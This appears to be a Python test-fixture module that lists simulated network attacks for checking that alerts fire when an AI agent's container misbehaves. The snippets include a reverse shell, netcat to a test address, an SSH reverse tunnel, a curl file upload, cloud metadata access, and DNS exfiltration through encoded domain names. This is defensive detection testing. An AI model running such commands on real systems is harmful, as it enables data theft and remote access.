"""Connections, names and ports: rules/network/."""

from __future__ import annotations

import re

from support.attacks.attack import NETWORK_TOOL, Attack

__all__ = ["ATTACKS"]

PUBLIC = "Public address contacted by a shell or text tool below an AI agent"
LONG_NAME = ".".join(["c2VjcmV0LWRhdGEtdGhhdC1sZWF2ZXM"] * 4) + ".example.com"
ENCODED_NAME = "mfzwizdgm5ugs2tlnryxmylbonqxgzdgm5ugs2tlnryxmyl.x.example.com"

ATTACKS = (
    Attack(
        "metadata",
        'socket.create_connection(("169.254.169.254", 80)).close()',
        {"Cloud metadata service contacted from an AI container": "169.254.169.254:80"},
    ),
    Attack(
        "reverse-shell",
        'link = socket.create_connection(("127.0.0.1", 4444)); os.dup2(link.fileno(), 0)',
        {"Standard stream of a shell or interpreter turned into a connection": ".*4444.*"},
    ),
    Attack(
        "drop-by-nc",
        'run("/bin/nc", "203.0.113.7", "4444")',
        {
            PUBLIC: "203.0.113.7:4444",
            NETWORK_TOOL: "/bin/nc",
        },
        "nc",
    ),
    Attack(
        "data-drop",
        'socket.create_connection((resolve("pastebin.com"), 443)).close()',
        {"Data drop reached from an AI container": "203.0.113.9:443"},
    ),
    Attack(
        "long-name",
        f'resolve("{LONG_NAME}")',
        {"Long domain name asked for in an AI container": re.escape(LONG_NAME.lower())},
    ),
    Attack(
        "raw-socket",
        "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
        {"Raw or packet socket made in an AI container": ".*"},
    ),
    Attack(
        "mail",
        'socket.create_connection(("127.0.0.1", 25)).close()',
        {"Mail sent from an AI container": "127.0.0.1:25"},
    ),
    Attack(
        "tor",
        'socket.create_connection(("127.0.0.1", 9050)).close()',
        {"Anonymity or chat network contacted from an AI container": "127.0.0.1:9050"},
    ),
    Attack(
        "pool",
        'resolve("xmr-eu1.nanopool.org")',
        {"Mining pool contacted": "xmr-eu1.nanopool.org"},
    ),
    Attack(
        "callback",
        'resolve("c6q8.oast.fun")',
        {"Tunnel or callback service asked for in an AI container": "c6q8.oast.fun"},
    ),
    Attack(
        "dns-over-tls",
        'socket.create_connection(("203.0.113.7", 853)).close()',
        {"Encrypted DNS resolver contacted from an AI container": "203.0.113.7:853"},
    ),
    Attack(
        "encoded-label",
        f'resolve("{ENCODED_NAME}")',
        {"Encoded label in a domain name asked for": re.escape(ENCODED_NAME)},
    ),
    Attack(
        "debug-port",
        'socket.create_server(("0.0.0.0", 9229)).close()',
        {"Debug port opened to the network": "0.0.0.0:9229"},
    ),
    Attack(
        "taken-port",
        'socket.create_server(("0.0.0.0", 11434)).close()',
        {"Port of a model server taken by another program": "0.0.0.0:11434"},
    ),
    Attack(
        "tunnel",
        'run("/opt/bin/ssh", "-N", "-R", "8080:localhost:80", "x@203.0.113.7")',
        {"SSH tunnel opened below an AI agent": "/bin/true"},
        "ssh",
    ),
    Attack(
        "upload",
        'run("/opt/bin/curl", "-T", "/etc/hostname", "http://127.0.0.1:1/")',
        {
            "File uploaded by a command line tool below an AI agent": "/bin/true",
            "Download tool started by an AI agent": "/bin/true",
        },
        "curl",
    ),
    Attack(
        "kubelet",
        'socket.create_connection(("127.0.0.1", 10250)).close()',
        {"Cluster or runtime control port contacted from an AI container": "127.0.0.1:10250"},
    ),
)
